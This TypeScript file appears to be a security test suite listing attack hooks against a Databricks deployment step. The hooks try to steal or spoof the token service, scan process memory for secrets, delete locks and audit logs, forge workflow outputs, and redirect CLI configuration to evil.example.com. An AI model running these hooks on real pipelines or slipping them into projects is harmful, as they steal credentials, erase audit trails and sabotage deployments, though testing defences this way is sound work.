import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import path from "node:path";
import { MARKED, refused, unharmed, type Attack, type Attacked } from "./code-attacks.ts";

const show = (attacked: Attacked): void => {
  console.log(JSON.stringify({ code: attacked.code, ok: attacked.succeeded, took: Math.round(attacked.took), seen: attacked.seen, jobs: attacked.sandbox.workspace.jobs.all.size, outputs: attacked.outputs }).slice(0, 1500));
  console.log(attacked.log.split("\n").slice(-14).join("\n").slice(0, 2500));
};

/** A detached program with nothing of the run in its environment. */
const aside = (code: string): string =>
  `spawn(process.execPath, ["-e", ${JSON.stringify(code)}], { detached: true, stdio: "ignore", env: {} }).unref();`;

export const MORE_ATTACKS: readonly Attack[] = [
  {
    what: "asks the token service itself, for this host and others",
    hook: "prebuild",
    code: `const own = await ask(); saw([own.status, Object.keys(await own.json())]);
      for (const host of ["https://evil.example.com", process.env.DATABRICKS_HOST + ".evil.example.com", process.env.DATABRICKS_HOST + "?o=1", "http://localhost:" + new URL(process.env.DATABRICKS_HOST).port]) { const answer = await ask(host); saw([host.slice(0, 20), answer.status, await answer.text()]); }`,
    holds: show,
  },
  {
    what: "ends the token service",
    hook: "prebuild",
    code: `saw([step, service]); process.kill(service, "SIGKILL");`,
    holds: show,
  },
  {
    what: "ends the token service and takes over its port with a token that it got",
    hook: "prebuild",
    code: `if (command !== "deploy") return saw(command);
      const body = await (await ask()).text(); const port = Number(new URL(process.env.DATABRICKS_METADATA_SERVICE_URL).port);
      saw([command, service]); process.kill(service, "SIGKILL");
      await new Promise((resolve) => setTimeout(resolve, 300));
      ${"`"}${"`"};
      const code = 'require("http").createServer((q, r) => r.writeHead(200, {"content-type":"application/json"}).end(' + JSON.stringify(body) + ')).listen(' + port + ', "127.0.0.1"); setTimeout(() => process.exit(), 20000)';
      spawn(process.execPath, ["-e", code], { detached: true, stdio: "ignore", env: {} }).unref();
      await new Promise((resolve) => setTimeout(resolve, 700));`,
    holds: show,
  },
  {
    what: "reads environment, arguments and memory of step and service",
    hook: "prebuild",
    code: `const secretOf = (pid) => { const found = variables(pid); return Object.keys(found).filter((name) => /TOKEN|SECRET|INPUT/.test(name)); };
      saw(["step", secretOf(step)]); saw(["service", Object.keys(variables(service)), fs.readFileSync("/proc/" + service + "/cmdline", "utf8").length]);
      const { access_token } = await (await ask()).json();
      const holds = (pid) => { try { const maps = fs.readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n").filter((line) => / rw-p /.test(line)); const fd = fs.openSync("/proc/" + pid + "/mem", "r"); for (const line of maps) { const [from, to] = line.split(" ")[0].split("-").map((hex) => parseInt(hex, 16)); const size = Math.min(to - from, 1 << 26); const buffer = Buffer.alloc(size); try { fs.readSync(fd, buffer, 0, size, from); } catch { continue; } if (buffer.includes(access_token)) return true; } return false; } catch (error) { return error.code; } };
      saw(["memory", holds(step), holds(service)]);`,
    holds: show,
  },
  {
    what: "writes into the pipe between step and service",
    hook: "prebuild",
    code: `for (const [pid, fd] of [[service, 0], [service, 1], [step, 1]]) { try { const link = fs.readlinkSync("/proc/" + pid + "/fd/" + fd); const handle = fs.openSync("/proc/" + pid + "/fd/" + fd, "w"); fs.writeSync(handle, '{"type":"stop"}\\nno json\\n'); saw([fd, link.slice(0, 7), "written"]); } catch (error) { saw([fd, error.code]); } }`,
    holds: show,
  },
  {
    what: "stops the token service by its control path",
    hook: "prebuild",
    code: `const base = new URL(process.env.DATABRICKS_METADATA_SERVICE_URL); const tries = [];
      for (const route of ["/", "/stop", base.pathname]) { const answer = await fetch(base.origin + route, { method: "POST" }); tries.push([answer.status, await answer.text()]); } saw(tries);`,
    holds: show,
  },
  {
    what: "floods the token service",
    hook: "prebuild",
    code: `const { port } = new URL(process.env.DATABRICKS_METADATA_SERVICE_URL); const all = [];
      for (let at = 0; at < 2000; at++) { const socket = net.connect(Number(port), "127.0.0.1", () => socket.write("GET /" + "x".repeat(7000) + " HTTP/1.1\\r\\nhost: 127.0.0.1:" + port + "\\r\\n\\r\\n")); socket.on("error", () => {}); all.push(socket); }
      await new Promise((resolve) => setTimeout(resolve, 1500)); saw(all.length);`,
    holds: show,
  },
  {
    what: "prints 300 MB without an end of line, and workflow commands",
    hook: "postdeploy",
    code: `const piece = "x".repeat(1 << 20); for (let at = 0; at < 300; at++) fs.writeSync(1, piece); fs.writeSync(1, "\\n::set-output name=jobs::forged\\n##vso[task.setvariable variable=x]forged\\n::add-mask::a\\n"); saw(fs.readFileSync("/proc/" + step + "/status", "utf8").match(/VmHWM:\\s+(\\d+)/)[1]);`,
    holds: show,
  },
  {
    what: "writes outputs, variables, state and summary of the job",
    hook: "postdeploy",
    code: `const of = variables(step); for (const name of ["GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STATE", "GITHUB_PATH"]) if (of[name]) fs.appendFileSync(of[name], "\\njobs=forged\\nFORGED=1\\nfolder=/\\nservice=1 2 3 4\\n"); saw(Object.keys(of).filter((name) => /^GITHUB_(OUTPUT|ENV|STATE|PATH|STEP_SUMMARY)$/.test(name)));`,
    holds: show,
  },
  {
    what: "kills the step in the middle of a deployment",
    hook: "predeploy",
    code: `saw([command, step]); process.kill(step, "SIGKILL");`,
    holds: show,
  },
  {
    what: "rewrites access.yml, policy and bundle after they were read",
    hook: "postdeploy",
    code: `saw(1); fs.writeFileSync("access.yml", "version: 1\\njobs: {}\\n"); fs.writeFileSync("databricks.yml", "bundle: { name: other }\\n"); fs.writeFileSync("policy.yml", "");`,
    holds: show,
  },
  {
    what: "writes another commit into .git",
    hook: "preinit",
    code: `saw(command); fs.writeFileSync(".git/HEAD", "f".repeat(40) + "\\n");`,
    holds: show,
  },
  {
    what: "deletes the lock of the deployment",
    hook: "predeploy",
    code: `saw(await api("POST", "/api/2.0/workspace/delete", { path: "/Workspace/Users/" + (JSON.parse(await api("GET", "/api/2.0/preview/scim/v2/Me")).userName) + "/.bundle/lakehouse-jobs/prod/state/deploy.lock" }));`,
    holds: show,
  },
  {
    what: "makes the audit log a folder",
    hook: "prebuild",
    inputs: { "audit-log": "audit.jsonl", auditLog: "audit.jsonl" },
    code: `saw(fs.existsSync("audit.jsonl")); fs.rmSync("audit.jsonl", { force: true, recursive: true }); fs.mkdirSync("audit.jsonl");`,
    holds: show,
  },
  {
    what: "makes the audit log a link",
    hook: "prebuild",
    inputs: { "audit-log": "audit.jsonl", auditLog: "audit.jsonl" },
    code: `saw(1); fs.rmSync("audit.jsonl", { force: true, recursive: true }); fs.symlinkSync("precious", "audit.jsonl"); fs.existsSync("precious") || fs.writeFileSync("precious", "kept");`,
    holds: show,
  },
  {
    what: "empties the audit log",
    hook: "postdeploy",
    inputs: { "audit-log": "audit.jsonl", auditLog: "audit.jsonl" },
    code: `saw(fs.readFileSync("audit.jsonl", "utf8").split("\\n").length); fs.writeFileSync("audit.jsonl", "");`,
    holds: show,
  },
  {
    what: "uploads a token to the bundle's folder behind the deployment",
    hook: "postdeploy",
    code: `const me = JSON.parse(await api("GET", "/api/2.0/preview/scim/v2/Me")).userName; const content = Buffer.from("token = 'dapi" + "0123456789abcdef".repeat(2) + "'").toString("base64");
      saw(await api("POST", "/api/2.0/workspace/import", { path: "/Workspace/Users/" + me + "/.bundle/lakehouse-jobs/prod/files/late.py", format: "AUTO", overwrite: true, content }));`,
    holds: show,
  },
  {
    what: "changes a source between scan and upload",
    hook: "prebuild",
    code: `if (command !== "deploy") return saw(command); saw(command); fs.writeFileSync("src/late.py", "token = 'dapi" + "0123456789abcdef".repeat(2) + "'\\n");`,
    holds: show,
  },
  {
    what: "leaves a program without its environment behind",
    hook: "postdeploy",
    code: `saw(1); ${aside("setTimeout(() => {}, 15000)")}`,
    holds: show,
  },
  {
    what: "changes the private home and the CLI's configuration",
    hook: "preinit",
    code: `saw(process.env.HOME); fs.writeFileSync(path.join(process.env.HOME, ".databrickscfg"), "[DEFAULT]\\nhost = https://evil.example.com\\ntoken = dapi0\\n"); fs.writeFileSync(path.join(process.env.HOME, ".gitconfig"), "[core]\\n\\tfsmonitor = touch /tmp/x\\n");`,
    holds: show,
  },
  {
    what: "empties the private folder",
    hook: "postdeploy",
    code: `saw(1); fs.rmSync(path.join(process.env.DATABRICKS_BUNDLE_TMP, ".."), { recursive: true, force: true });`,
    holds: show,
  },
  {
    what: "puts a link in the place of the private folder",
    hook: "postdeploy",
    code: `const root = path.join(process.env.DATABRICKS_BUNDLE_TMP, ".."); const precious = root + "-precious"; fs.mkdirSync(precious); fs.writeFileSync(precious + "/kept", ""); saw(precious); fs.renameSync(root, root + "-away"); fs.symlinkSync(precious, root);`,
    holds: show,
  },
  {
    what: "puts other programs in front of PATH and Node's own options",
    hook: "preinit",
    code: `saw(1); for (const name of ["databricks", "git", "node"]) fs.writeFileSync(name, "#!/bin/sh\\ntouch shim-ran\\n", { mode: 0o755 });`,
    holds: show,
  },
  {
    what: "stops the step for a while",
    hook: "postdeploy",
    code: `saw(1); process.kill(step, "SIGSTOP"); await new Promise((resolve) => setTimeout(resolve, 1000)); process.kill(step, "SIGCONT");`,
    holds: show,
  },
  {
    what: "asks the step to debug, to end and to reload",
    hook: "postdeploy",
    code: `saw(1); for (const signal of ["SIGUSR1", "SIGUSR2", "SIGHUP", "SIGPIPE", "SIGWINCH"]) { process.kill(step, signal); await new Promise((resolve) => setTimeout(resolve, 50)); } saw(fs.readFileSync("/proc/" + step + "/net/tcp", "utf8").includes("0100007F:240D"));`,
    holds: show,
  },
  {
    what: "writes an endless plan",
    hook: "prebuild",
    code: `saw(1); fs.writeSync(1, '{"plan":{}}\\n'.repeat(1000));`,
    holds: show,
  },
];
export { MARKED, refused, unharmed, assert, writeFile, path };
